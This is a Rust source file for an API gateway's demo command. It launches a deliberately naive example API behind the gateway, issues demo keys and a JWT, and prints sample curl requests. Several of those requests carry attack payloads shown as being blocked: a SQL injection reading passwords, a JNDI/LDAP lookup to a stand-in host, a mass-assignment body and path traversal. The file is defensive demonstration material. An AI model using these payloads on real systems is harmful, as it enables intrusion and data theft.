//! `warden demo`: the example API on loopback with the gateway in front of it, using the config in
//! `examples/demo.yaml` (compiled in, so the demo works from any folder), then a few requests to try.

pub mod api;
mod fixed;

use std::path::{Path, PathBuf};

use anyhow::Context;
use warden_gateway::config::Target;
use warden_gateway::{Config, Runtime};

use crate::cli::{DemoArgs, Failure};

const DEMO_CONFIG: &str = include_str!("../../../../examples/demo.yaml");
const DEMO_SPEC: &str = include_str!("../../../../examples/demo-openapi.yaml");

/// The example users, each given a fresh API key at every start.
const USERS: [&str; 3] = ["alice", "bob", "admin"];

pub async fn run(args: DemoArgs, data_dir_flag: Option<PathBuf>) -> Result<(), Failure> {
    if !args.api_listen.ip().is_loopback() {
        return Err(Failure::BadInput(
            "--api-listen must be a loopback address: the example API is deliberately insecure"
                .into(),
        ));
    }
    let data_dir = crate::data_dir::resolve(data_dir_flag, None, None).join("demo");
    crate::data_dir::prepare(&data_dir)?;
    let jwt_secret = demo_jwt_secret(&data_dir)?;
    // The demo config reads its issuer's secret from the environment, as a real one would.
    std::env::set_var("WARDEN_DEMO_JWT_SECRET", &jwt_secret);
    // The spec is compiled in too; the config names it beside itself, so it goes beside the data.
    let spec = data_dir.join("demo-openapi.yaml");
    std::fs::write(&spec, DEMO_SPEC).with_context(|| format!("cannot write {}", spec.display()))?;
    let quoted = serde_json::to_string(&spec.display().to_string()).expect("strings serialize");
    let text = DEMO_CONFIG.replace("{spec: demo-openapi.yaml}", &format!("{{spec: {quoted}}}"));
    let mut config = Config::parse(&text, Path::new("examples/demo.yaml"))
        .map_err(|e| Failure::Runtime(e.into()))?;
    config.listeners[0].address = args.listen;
    config.admin.address = Some(args.admin);
    let api = api::DemoApi::bind(args.api_listen)
        .await
        .with_context(|| format!("cannot start the example API on {}", args.api_listen))?;
    let api_addr = api.local_addr();
    for up in config.upstreams.values_mut() {
        up.targets = vec![Target::try_from(format!("http://{api_addr}"))
            .expect("a socket address is a valid target")];
    }
    tokio::spawn(api.serve());

    let keys = demo_keys(&data_dir)?;
    let token = demo_token(&jwt_secret, "alice")?;
    let signals = crate::serve::Signals::install()?;
    let services = crate::serve::open_services(&data_dir)?;
    let gateway = crate::serve::start(Runtime::new(config, &text, services)).await?;
    let admin = gateway.admin_addr().unwrap_or(args.admin);
    print_intro(
        gateway.listen_addrs()[0],
        admin,
        api_addr,
        &keys,
        &token,
        &data_dir,
    );
    crate::serve::run_until_signal(gateway, None, signals).await
}

/// The demo issuer's HMAC secret: made once, kept in the demo's data folder (mode 0600).
fn demo_jwt_secret(dir: &Path) -> Result<String, Failure> {
    let file = dir.join("demo-jwt.secret");
    if let Ok(s) = std::fs::read_to_string(&file) {
        if s.trim().len() >= 32 {
            return Ok(s.trim().to_string());
        }
    }
    let key = warden_policy::auth::api_key::generate()
        .map_err(|e| Failure::Runtime(anyhow::anyhow!("{e}")))?;
    // 256 random bits in base64url: the secret half of a freshly made key.
    let secret = warden_policy::auth::api_key::parse(&key.text)
        .map(|(_, s)| s.to_string())
        .unwrap_or_default();
    std::fs::write(&file, &secret).with_context(|| format!("cannot write {}", file.display()))?;
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600));
    }
    Ok(secret)
}

/// A fresh API key per example user; the previous run's keys are revoked.
fn demo_keys(dir: &Path) -> Result<Vec<(String, String)>, Failure> {
    let mut store =
        warden_store::Store::open(dir).map_err(|e| Failure::Runtime(anyhow::anyhow!("{e}")))?;
    let old = store
        .list_keys()
        .map_err(|e| Failure::Runtime(anyhow::anyhow!("{e}")))?;
    for k in old.iter().filter(|k| k.revoked_at.is_none()) {
        let _ = store.revoke_key(&k.id, "demo");
    }
    USERS
        .iter()
        .map(|u| {
            store
                .create_key(u, &[], &[], None, "demo")
                .map(|(_, text)| (u.to_string(), text))
                .map_err(|e| Failure::Runtime(anyhow::anyhow!("{e}")))
        })
        .collect()
}

/// A one-hour token from the demo issuer.
fn demo_token(secret: &str, user: &str) -> Result<String, Failure> {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs());
    let claims = serde_json::json!({"iss": "https://demo.warden.local", "aud": "warden-demo",
        "sub": user, "iat": now, "exp": now + 3600});
    jsonwebtoken::encode(
        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
        &claims,
        &jsonwebtoken::EncodingKey::from_secret(secret.as_bytes()),
    )
    .map_err(|e| Failure::Runtime(anyhow::anyhow!("cannot sign the demo token: {e}")))
}

fn print_intro(
    gw: std::net::SocketAddr,
    admin: std::net::SocketAddr,
    api: std::net::SocketAddr,
    keys: &[(String, String)],
    token: &str,
    data_dir: &std::path::Path,
) {
    let data = data_dir.display();
    let key = |u: &str| {
        keys.iter()
            .find(|(n, _)| n == u)
            .map_or("", |(_, k)| k.as_str())
            .to_string()
    };
    let (alice, bob) = (key("alice"), key("bob"));
    println!(
        "\
Warden demo
  gateway      http://{gw}   (config: examples/demo.yaml, spec: examples/demo-openapi.yaml)
  example API  http://{api}   (deliberately naive: never expose it)
  admin        http://{admin}/metrics

API keys made for this run (shown once; `warden --data-dir {data} keys list` lists them):
  alice  {alice}
  bob    {bob}
A token from the demo's JWT issuer, for alice, valid 1 hour:
  {token}

Try:
  curl -i http://{gw}/users/1
      401 problem+json: every route but /login and /health needs a credential
  curl -i -H 'X-API-Key: {alice}' http://{gw}/users/1
      proxied as alice; the API returns her identity and card numbers, masked on the way out
      (data_protection), and her password hash, which the spec does not declare: removed
  curl -i -H 'Authorization: Bearer {token}' http://{gw}/users/1
      the same with the JWT; the API sees X-Warden-Consumer: alice, never the credential
  curl -i -H 'X-API-Key: {alice}' http://{gw}/users/2
  curl -i -H 'X-API-Key: {alice}' http://{gw}/orders/102
      403 and 404: bob's record and bob's order are not alice's (the spec's owner rules, on the
      request's path and on the response's user_id)
  curl -i -H 'X-API-Key: {alice}' http://{gw}/users
  curl -i -X PUT -H 'X-API-Key: {alice}' http://{gw}/users/1
      404 and 405 (with Allow): the API answers both, the spec declares neither
  curl -i -X POST -H 'Content-Type: application/json' -d '{{\"username\":\"eve\",\"email\":\"eve@example.com\",\"password\":\"longenough\",\"admin\":true}}' http://{gw}/register
      400 problem+json listing `body.admin: undeclared-property`: no mass assignment
  curl -i -X POST -H 'Content-Type: application/json' -d '{{\"username\":\"nobody\",\"password\":\"x\"}}' http://{gw}/login
  curl -i -X POST -H 'Content-Type: application/json' -d '{{\"username\":\"alice\",\"password\":\"x\"}}' http://{gw}/login
      unknown user and wrong password get the same 401; 5 failures lock the username
  curl -s -X POST -H 'Content-Type: application/json' -d '{{\"username\":\"alice\",\"password\":\"alice123\"}}' http://{gw}/login
      the API's own token, recorded by Warden: `Authorization: Bearer demo-alice` now works,
      while `Bearer demo-bob` (never issued through Warden) does not
  curl -i -H 'X-API-Key: {bob}' 'http://{gw}/search?q=%27'
      the API's stack trace becomes a generic problem+json (error_scrubbing)
  curl -i -H 'X-API-Key: {bob}' \"http://{gw}/search?q=x%27%20UNION%20SELECT%20password%20FROM%20users--\"
  curl -i -H 'X-API-Key: {bob}' -H 'User-Agent: ${{jndi:ldap://x.example/a}}' http://{gw}/users/2
      403 problem+json: attacks are refused before the API sees them (attack_detection),
      and the answer never repeats the payload
  curl -i -X DELETE -H 'X-API-Key: {bob}' http://{gw}/admin/users/2
      403 problem+json: the spec gives deleteUser to the admin role only (and the route's
      ip_rules admit only 10.20.0.0/16 and this machine)
  curl -i 'http://{gw}/users/../admin/users'
      400: dot-segments never reach the router
  for i in $(seq 55); do curl -s -o /dev/null -w '%{{http_code}} ' http://{gw}/health; done; echo
      50 answers, then 429 with Retry-After: the per-consumer limit (an anonymous caller counts
      by IP); every limited answer carries RateLimit-Policy, RateLimit-Remaining and -Reset
  curl -s http://{admin}/metrics | grep warden_requests
  warden --data-dir {data} audit query --decision denied
      every call above is on record, allowed or refused: who, what, the decision and why
      (never a payload); `--json` for JSON lines, `audit export --syslog udp://HOST:514` for a SIEM
  warden scan --spec {data}/demo-openapi.yaml --target http://{gw} --login alice=alice123 --login bob=bob123 --allow-writes
      the scanner plays alice and bob against each other and probes every operation: behind
      Warden it finds nothing; `warden demo-api` serves the naive API alone on 127.0.0.1:8788
      for comparison (README: the scan of both)
  warden --data-dir {data} audit verify
      the trail is a hash chain with signed checkpoints: an edited, deleted, inserted or
      reordered entry is found and named

Stop with Ctrl-C (the gateway drains in-flight requests first).
"
    );
}
